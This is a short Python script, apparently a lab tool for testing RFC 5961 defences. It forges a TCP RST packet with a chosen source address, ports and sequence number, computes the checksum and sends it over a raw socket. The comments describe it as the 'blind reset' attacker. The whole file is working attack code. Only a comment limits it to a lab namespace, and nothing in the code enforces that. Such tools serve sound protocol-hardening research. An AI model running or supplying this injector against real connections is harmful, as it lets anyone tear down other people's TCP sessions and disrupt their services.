#!/usr/bin/env python3
# Send one forged TCP RST with a chosen sequence number (RFC 5961's "blind reset" attacker), from
# inside a lab namespace only. Usage: inject-rst.py SRC_IP SRC_PORT DST_IP DST_PORT SEQ
# The kernel adds the IP header (IPPROTO_TCP raw socket); we build the TCP header and checksum.
# Prints one JSON line: {"sent": true, "seq": SEQ}.
import json, socket, struct, sys

def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF

def main() -> None:
    src, sport, dst, dport, seq = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5]) & 0xFFFFFFFF
    flags = 0x04  # RST
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, flags, 0, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
    header = header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    s.bind((src, 0))
    s.sendto(header, (dst, 0))
    print(json.dumps({"sent": True, "seq": seq}), flush=True)

main()
